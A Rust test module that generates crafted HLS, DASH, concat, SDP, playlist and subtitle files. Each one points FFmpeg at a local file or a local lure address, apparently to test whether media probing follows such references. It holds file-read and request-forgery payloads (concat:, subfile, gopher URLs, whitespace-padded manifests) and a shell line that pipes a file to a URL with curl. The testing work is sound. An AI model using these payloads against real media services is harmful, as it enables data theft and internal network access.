//! Text that names other files: what FFmpeg's own guess would follow.

use super::{Lures, Trick, trick};

pub(super) fn all(lures: &Lures) -> Vec<Trick> {
    let (file, http) = (lures.file(), lures.http("a.ts"));
    let path = lures.film.display().to_string();
    let mut all = vec![
        trick("hls to a file", hls(&file)),
        trick("hls to an address", hls(&http)),
        trick("hls by concat", hls(&format!("concat:{path}|{path}"))),
        trick("hls by subfile", hls(&format!("subfile,,start,0,end,4096,,:{path}"))),
        trick("hls by crypto", hls(&format!("crypto+file:{path}"))),
        trick("hls by async", hls(&format!("async:{http}"))),
        trick(
            "hls by data",
            hls("data:video/mp2t;base64,R0AREABC8CUAAcEAAP8B/wAB/IAUSBIBBkZGbXBlZwlTZXJ2aWNlMDF3fEPK"),
        ),
        trick("hls by gopher", hls(&format!("gopher://127.0.0.1:{}/_x", lures.port))),
        trick("hls map", format!("#EXTM3U\n#EXT-X-MAP:URI=\"{file}\"\n#EXTINF:1,\n{http}\n#EXT-X-ENDLIST\n")),
        trick(
            "hls key",
            format!(
                "#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"{http}\"\n#EXTINF:1,\n{file}\n#EXT-X-ENDLIST\n"
            ),
        ),
        trick(
            "hls master",
            format!(
                "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{http}\n#EXT-X-STREAM-INF:BANDWIDTH=2\n{file}\n"
            ),
        ),
        trick("hls behind a mark", format!("\u{feff}{}", hls(&http))),
        trick("hls in utf-16", utf16(&hls(&http))),
        trick("plain m3u", format!("{path}\n{http}\n")),
        trick("ffconcat", format!("ffconcat version 1.0\nfile '{path}'\nfile '{http}'\n")),
        trick("concat", format!("file '{path}'\nduration 3\nfile '{http}'\n")),
        trick("concat with options", format!("ffconcat version 1.0\nfile {path}\noption enable_drefs 1\n")),
        trick("rtsp", format!("rtsp://127.0.0.1:{}/live\n", lures.port)),
        trick("pls", format!("[playlist]\nFile1={http}\nNumberOfEntries=1\n")),
        trick("asx", format!("<asx version=\"3.0\"><entry><ref href=\"{http}\"/></entry></asx>")),
        trick("smil", format!("<smil><body><video src=\"{http}\"/></body></smil>")),
        trick("real metafile", format!("{http}\n")),
        trick(
            "quicktime reference",
            format!(
                "<?xml version=\"1.0\"?><?quicktime type=\"application/x-quicktime-media-link\"?><embed src=\"{http}\"/>"
            ),
        ),
        trick(
            "imf",
            format!(
                "<?xml version=\"1.0\"?><CompositionPlaylist xmlns=\"http://www.smpte-ra.org/schemas/2067-3/2016\"><Id>{file}</Id></CompositionPlaylist>"
            ),
        ),
        trick("metadata", format!(";FFMETADATA1\ntitle={http}\n[STREAM]\nfile={path}\n")),
        trick("filter graph", format!("movie={path}[out0];amovie={http}[out1]")),
        trick(
            "vobsub",
            format!(
                "# VobSub index file, v7 (do not modify this line!)\nsize: 720x576\nid: en, index: 0\ntimestamp: 00:00:01:000, filepos: 000000000\n# {path}\n"
            ),
        ),
        trick(
            "srt with a file",
            format!("1\n00:00:00,000 --> 00:00:09,000\n<font face=\"{path}\">x</font><img src=\"{http}\">\n"),
        ),
        trick(
            "webvtt with a file",
            format!("WEBVTT\n\nSTYLE\n::cue {{ background: url({http}) }}\n\n00:00.000 --> 00:09.000\nx\n"),
        ),
        trick(
            "ass with fonts",
            format!(
                "[Script Info]\nScriptType: v4.00+\n\n[Fonts]\nfontname: {path}\n\n[Events]\nDialogue: 0,0:00:00.00,0:00:09.00,,,,,,,{{\\fn{path}}}x\n"
            ),
        ),
        trick(
            "sami",
            format!(
                "<SAMI><HEAD><STYLE>p {{ src: url({http}) }}</STYLE></HEAD><BODY><SYNC Start=0><P>x</BODY></SAMI>"
            ),
        ),
        trick("shell", format!("#!/bin/sh\ncurl {http} < {path}\n")),
    ];
    all.extend(dash(lures));
    all.extend(sdp(lures));
    all
}

fn hls(target: &str) -> String {
    format!(
        "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:2\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n{target}\n#EXT-X-ENDLIST\n"
    )
}

fn dash(lures: &Lures) -> Vec<Trick> {
    let mpd = |url: &str| {
        format!(
            "<?xml version=\"1.0\"?>\n<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" \
             mediaPresentationDuration=\"PT9S\" profiles=\"urn:mpeg:dash:profile:isoff-main:2011\"><Period><AdaptationSet \
             mimeType=\"video/mp4\"><Representation id=\"1\" bandwidth=\"1\"><BaseURL>{url}</BaseURL><SegmentList><SegmentURL \
             media=\"{url}\"/></SegmentList></Representation></AdaptationSet></Period></MPD>"
        )
    };
    let comment = format!("<!--{}-->", " ".repeat(6000));
    vec![
        trick("dash to an address", mpd(&lures.http("a.mp4"))),
        trick("dash to a file", mpd(&lures.file())),
        trick(
            "dash behind a comment",
            mpd(&lures.http("b.mp4")).replacen("<MPD", &format!("{comment}<MPD"), 1),
        ),
        trick(
            "smooth streaming",
            format!(
                "<SmoothStreamingMedia Duration=\"1\"><StreamIndex Url=\"{}\"/></SmoothStreamingMedia>",
                lures.http("m")
            ),
        ),
    ]
}

fn sdp(lures: &Lures) -> Vec<Trick> {
    let text = format!(
        "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=video {} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n",
        lures.port
    );
    vec![trick("sdp", text.clone()), trick("sdp behind a space", format!(" \n{text}"))]
}

fn utf16(text: &str) -> Vec<u8> {
    std::iter::once(0xfeff).chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect()
}
